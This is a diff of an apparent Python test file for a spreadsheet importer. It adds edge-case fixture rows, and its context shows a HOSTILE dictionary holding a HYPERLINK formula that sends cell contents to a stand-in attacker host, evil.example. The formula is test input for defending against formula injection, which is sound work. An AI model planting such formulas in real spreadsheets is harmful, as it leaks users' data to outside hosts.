@@ -13,6 +13,12 @@ from python_calamine import CalamineWorkbook
 from importer.model import Batch, Checked, Column, Outcome, Problem, Severity, Sheet, State
 from importer.results import About, Page, write_workbook
 
+HEADERS = ("Student ID", "Last name", "Phone", "Phone", "", "Birth date")
+ROWS = (
+    ("0012345", "O'Neill", "555 0100", "", "x", "2001-02-03"),
+    ("12", "Null", "", "555 0101", "", "32/13/2001"),
+    ("1E5", "Nguyễn 🚗", "", "", "", ""),
+)
 STARTED = datetime(2026, 11, 22, 14, 5, 9, tzinfo=UTC)
 HOSTILE = {
     "a link formula": '=HYPERLINK("http://evil.example?x="&A1,"Click")',
